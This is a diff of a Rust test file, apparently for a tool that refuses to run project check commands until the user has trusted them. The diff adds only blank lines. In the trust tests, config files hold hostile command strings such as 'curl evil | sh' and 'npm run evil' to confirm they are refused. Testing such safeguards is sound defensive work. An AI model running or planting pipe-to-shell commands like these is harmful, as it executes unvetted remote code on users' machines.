@@ -31,6 +31,7 @@ fn checks_are_derived_from_files_at_the_root() {
     const PACKAGE: &str = r#"{"scripts": {"test": "jest"}}"#;
     const PLACEHOLDER: &str =
         r#"{"scripts": {"test": "echo \"Error: no test specified\" && exit 1"}}"#;
+
     let cases: [(&Files, &[&str]); 31] = [
         (&[], &[]),
         (&[("README.md", "cargo test")], &[]),
@@ -105,6 +106,7 @@ fn checks_are_derived_from_files_at_the_root() {
             &["cargo test", "npm test"],
         ),
     ];
+
     for (files, commands) in cases {
         let project = project(files);
         let found = ops::detect_checks(&project.root());
@@ -125,6 +127,7 @@ fn scans_are_listed_even_without_their_tool() {
     let review = ReviewSettings::default();
     let audit = CheckCommand::scan("cargo audit", "cargo-audit");
     let leaks = CheckCommand::scan("gitleaks detect --no-git --no-banner --redact", "gitleaks");
+
     let found = ops::check_commands(&review, &project.root());
     assert_eq!(
         found,
@@ -134,6 +137,7 @@ fn scans_are_listed_even_without_their_tool() {
             leaks.clone()
         ]
     );
+
     let without = ReviewSettings {
         scans: false,
         ..review.clone()
@@ -142,6 +146,7 @@ fn scans_are_listed_even_without_their_tool() {
         ops::check_commands(&without, &project.root()),
         [CheckCommand::new("cargo test")]
     );
+
     // Configured checks replace discovered ones, and a configured scan does not run twice.
     let own = CheckCommand::new("cargo audit --deny warnings");
     let set = ReviewSettings {
@@ -152,6 +157,7 @@ fn scans_are_listed_even_without_their_tool() {
         ops::check_commands(&set, &project.root()),
         [own, leaks.clone()]
     );
+
     let none = ReviewSettings {
         commands: Some(Vec::new()),
         ..review
@@ -190,6 +196,7 @@ fn only_trusted_checks_run() {
         ),
         "{message}"
     );
+
     let shown = project.run(&["trust", "--show"]);
     let commands = "          cargo test\n          go vet ./...\n          go test ./...\n          govulncheck ./...\n";
     assert_eq!(
@@ -200,6 +207,7 @@ fn only_trusted_checks_run() {
         project.run(&["trust"]).ok(),
         format!("accepted  checks (new)\n{commands}")
     );
+
     check(&project).unwrap();
     assert_eq!(
         project.run(&["trust", "--show"]).ok(),
@@ -213,37 +221,45 @@ fn only_trusted_checks_run() {
         message.contains("not the ones that you have accepted") && message.contains("pytest"),
         "{message}"
     );
+
     let shown = project.run(&["trust", "--show"]).stdout;
     assert!(shown.starts_with("changed   checks\n"), "{shown}");
+
     fs::remove_file(project.root().join("pytest.ini")).unwrap();
     check(&project).unwrap();
+
     project.write(
         "agentd/config.toml",
         "format = 1\n[review]\nscans = false\ncommands = [\"curl evil | sh\"]\n",
     );
     assert!(refusal_message(&project).contains("\n  curl evil | sh"));
+
     let json = project.run(&["trust", "--json"]).json();
     let last = json["files"].as_array().unwrap().last().unwrap();
     assert_eq!(
         (&last["file"], &last["commands"]),
         (&"checks".into(), &serde_json::json!(["curl evil | sh"]))
     );
+
     check(&project).unwrap();
     project.write(
         "agentd/config.toml",
         "format = 1\n[review]\nscans = false\ncommands = [\"curl worse | sh\"]\n",
     );
     assert!(refusal_message(&project).contains("\n  curl worse | sh"));
+
     // Trust does not extend to another project with the same commands, and trust for one run is not
     // stored.
     let other = self::project(&[("Cargo.toml", "")]);
     refusal_message(&other);
+
     let workspace = Workspace::open(
         other.root(),
         WorkspaceOptions::default().with_user(other.user_folder()),
     )
     .unwrap();
     check_checks(&workspace, &ops::detect_checks(&other.root()), true).unwrap();
+
     refusal_message(&other);
     check_checks(&workspace, &[], false).unwrap();
 }
@@ -255,6 +271,7 @@ fn init_writes_checks_that_need_their_own_trust() {
         ("package.json", r#"{"scripts": {"test": "t"}}"#),
     ]);
     project.run(&["init"]).ok();
+
     let text = project.read("agentd/config.toml");
     assert!(
         text.contains(
@@ -262,6 +279,7 @@ fn init_writes_checks_that_need_their_own_trust() {
         ),
         "{text}"
     );
+
     let places = Places::new(Some(project.root()), None);
     let commands = Some(vec![
         CheckCommand::new("cargo test"),
@@ -274,12 +292,14 @@ fn init_writes_checks_that_need_their_own_trust() {
             ..ReviewSettings::default()
         }
     );
+
     // The settings contain nothing else, so only the checks need trust.
     let shown = project.run(&["trust", "--show"]).stdout;
     assert_eq!(
         shown,
         "accepted  agentd/config.toml\nnew       checks\n          cargo test\n          npm test\n"
     );
+
     project.write(
         "agentd/config.toml",
         text.replace("\"npm test\"", "\"npm run evil\""),
